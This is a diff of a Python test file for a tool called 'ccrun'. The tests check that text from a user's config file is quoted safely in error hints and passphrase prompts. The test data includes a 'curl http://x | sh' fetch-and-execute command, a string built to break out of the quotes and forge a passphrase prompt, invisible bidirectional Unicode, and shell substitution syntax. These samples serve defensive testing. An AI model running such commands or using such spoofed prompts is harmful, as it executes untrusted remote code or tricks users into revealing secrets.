@@ -96,11 +96,37 @@ def test_words_of_a_user_s_file_are_the_file_s(c, token):
     c.own()
     m.program.plays(exit=3, err="gone")
     err = m.start().communicate(timeout=60)[1]
-    assert 'hint: "curl http://x | sh" (sources/pass.conf)' in err, err
+    assert 'hint: it says: "curl http://x | sh" [sources/pass.conf]' in err, err
     m.program.plays(out=token + "\n", wait=str(c.home / "gate"))
     p = m.start()
     line = line_with(p.stderr, "ccrun: waiting")
-    assert line.startswith('ccrun: waiting for "the vault" (sources/pass.conf): "type your passphrase" (sources/pass.conf)')
+    assert line.startswith('ccrun: waiting for "the vault" [sources/pass.conf]: "type your passphrase" [sources/pass.conf]')
+    c.write("gate", "")
+    assert p.communicate(timeout=60)[0] == f"<{token}>"
+
+
+QUOTED = {
+    'long" (sources/pass.conf).  ccrun: type your passphrase: "': '"long\' (sources/pass.conf). ccrun: type your passphrase: \'"',
+    "a\u202eb\u2066c\u200fd\u061ce": '"a?b?c?d?e"',
+    "a\u2028b\u2029c": '"a?b?c"',
+    "$(~/x) `~/x` \\": '"?(~/x) ?~/x? ?"',
+    "süß 漢字": '"süß 漢字"',
+}
+
+
+@pytest.mark.parametrize("said", QUOTED)
+def test_nothing_ends_the_quotes_of_a_user_s_words(c, token, said):
+    m = Manager(c, token, "pass:ai/x", "pass")
+    c.write(c.config / "ccrun/sources/pass.conf", f"[source]\ntitle = {said}\nwaits = {said}\n"
+            f"[missing]\nexit = 3\ntext = gone\nhint = {said}\n", 0o600)
+    c.own()
+    m.program.plays(exit=3, err="gone")
+    err = m.start().communicate(timeout=60)[1]
+    assert f"hint: it says: {QUOTED[said]} [sources/pass.conf]\n" in err, err
+    m.program.plays(out=token + "\n", wait=str(c.home / "gate"))
+    p = m.start()
+    line = line_with(p.stderr, "ccrun: waiting")
+    assert line == f"ccrun: waiting for {QUOTED[said]} [sources/pass.conf]: {QUOTED[said]} [sources/pass.conf]\n"
     c.write("gate", "")
     assert p.communicate(timeout=60)[0] == f"<{token}>"
 
